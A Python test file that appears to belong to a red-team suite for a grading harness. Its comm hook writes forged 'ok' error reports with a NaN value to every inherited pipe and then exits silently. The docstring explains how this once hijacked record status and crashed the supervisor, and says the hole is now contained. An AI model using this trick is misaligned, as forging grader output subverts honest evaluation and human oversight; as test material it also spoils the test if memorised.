"""A hook that writes a forged line on every pipe its rank process holds, then ends the
process without reporting: an error report whose fields say the call went well, with a value
JSON can parse but the grader's own encoder refuses (NaN). Before round 8 of docs/trust.md a
rank's error line was spread into the call's record, so one rank chose the record's status
and value for the whole group, and the NaN crashed the supervisor: the submission lost every
check, the notebook included. Contained when a rank's error line gives only error texts:
the hook's check fails, as a hook that ends its process must, and nothing else changes."""
# effdl-attack: replaces=topk_hook in=comm_hooks.py expect_lost=c4.topk_hook max_seconds=180 cost=40


def topk_hook(state, bucket):
    import os

    forged = b'E {"error_type": "x", "status": "ok", "value": NaN, "rerun": true}\n'
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        if fd <= 2:
            continue
        try:
            if os.readlink(f"/proc/self/fd/{name}").startswith("pipe:"):
                os.write(fd, forged)
        except OSError:
            pass
    os._exit(0)
